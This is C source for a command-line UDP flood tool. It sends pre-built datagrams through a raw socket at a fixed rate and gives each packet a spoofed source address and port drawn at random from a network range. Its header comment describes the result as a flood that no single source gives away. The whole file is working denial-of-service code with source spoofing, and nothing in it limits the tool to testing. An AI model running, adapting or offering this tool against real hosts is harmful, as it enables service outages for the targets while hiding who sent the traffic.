/*
 * Sends pre-built datagrams at a fixed rate from made-up addresses, each from another one: a flood that no single source betrays.
 *
 * Usage: flood FILE LENGTH ADDRESS PORT NETWORK PER_SECOND
 * FILE holds messages of LENGTH bytes, sent in turn to ADDRESS:PORT (IPv4). Sources are drawn from NETWORK, of which the first two bytes count.
 * Sends until SIGTERM, then prints {"sent":…,"seconds":…}. Needs CAP_NET_RAW.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, MESSAGES = 4096, HEADERS = sizeof(struct iphdr) + sizeof(struct udphdr) };

struct headers {
  struct iphdr ip;
  struct udphdr udp;
} __attribute__((packed));

static volatile sig_atomic_t ended;

static void end(int signal) {
  (void)signal;
  ended = 1;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* xorshift32: the sources must differ, not surprise. */
static unsigned next(void) {
  static unsigned state = 2463534242u;
  state ^= state << 13;
  state ^= state >> 17;
  state ^= state << 5;
  return state;
}

static int fail(const char *what) {
  fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
  return 1;
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: flood FILE LENGTH ADDRESS PORT NETWORK PER_SECOND\n");
    return 2;
  }
  size_t length = strtoul(argv[2], NULL, 10);
  double rate = strtod(argv[6], NULL);
  struct sockaddr_in to = {.sin_family = AF_INET};
  struct in_addr network;
  if (length == 0 || length > 1472 || rate <= 0 || inet_pton(AF_INET, argv[3], &to.sin_addr) != 1 ||
      inet_pton(AF_INET, argv[5], &network) != 1) {
    fprintf(stderr, "flood: bad argument\n");
    return 2;
  }

  FILE *file = fopen(argv[1], "rb");
  char *messages = malloc(length * MESSAGES);
  if (file == NULL || messages == NULL) return fail(argv[1]);
  size_t count = fread(messages, length, MESSAGES, file);
  fclose(file);
  if (count == 0) {
    fprintf(stderr, "flood: %s holds no message of %zu bytes\n", argv[1], length);
    return 1;
  }

  int sock = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (sock < 0) return fail("raw socket");
  int room = 16 << 20;
  if (setsockopt(sock, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room) != 0) return fail("SO_SNDBUFFORCE");

  struct headers headers[BATCH];
  struct iovec parts[BATCH][2];
  struct mmsghdr batch[BATCH];
  memset(batch, 0, sizeof batch);
  for (int i = 0; i < BATCH; i++) {
    /* The kernel fills in the IP header's checksum and id; a UDP checksum of zero means none. */
    headers[i] = (struct headers){
        .ip = {.version = 4,
               .ihl = 5,
               .tot_len = htons((unsigned short)(HEADERS + length)),
               .ttl = 64,
               .protocol = IPPROTO_UDP,
               .daddr = to.sin_addr.s_addr},
        .udp = {.dest = htons((unsigned short)strtoul(argv[4], NULL, 10)), .len = htons((unsigned short)(sizeof(struct udphdr) + length))},
    };
    parts[i][0] = (struct iovec){&headers[i], HEADERS};
    parts[i][1].iov_len = length;
    batch[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = parts[i], .msg_iovlen = 2};
  }

  struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  printf("ready\n");
  fflush(stdout);
  unsigned prefix = ntohl(network.s_addr) & 0xffff0000u;
  unsigned long long sent = 0;
  size_t at = 0;
  double begun = now();
  while (!ended) {
    double due = (now() - begun) * rate - (double)sent;
    if (due < 1) {
      nanosleep(&(struct timespec){.tv_nsec = 100000}, NULL);
      continue;
    }
    unsigned many = due < BATCH ? (unsigned)due : BATCH;
    for (unsigned i = 0; i < many; i++) {
      unsigned random = next();
      headers[i].ip.saddr = htonl(prefix | (random & 0xffffu));
      headers[i].ip.id = 0;
      headers[i].udp.source = htons((unsigned short)(1024 + (random >> 16) % 60000));
      parts[i][1].iov_base = messages + length * at;
      at = (at + 1) % count;
    }
    int done = sendmmsg(sock, batch, many, 0);
    if (done > 0) sent += (unsigned)done;
    else if (errno != EINTR && errno != ENOBUFS && errno != EAGAIN) return fail("sendmmsg");
  }
  printf("{\"sent\":%llu,\"seconds\":%.3f}\n", sent, now() - begun);
  return 0;
}
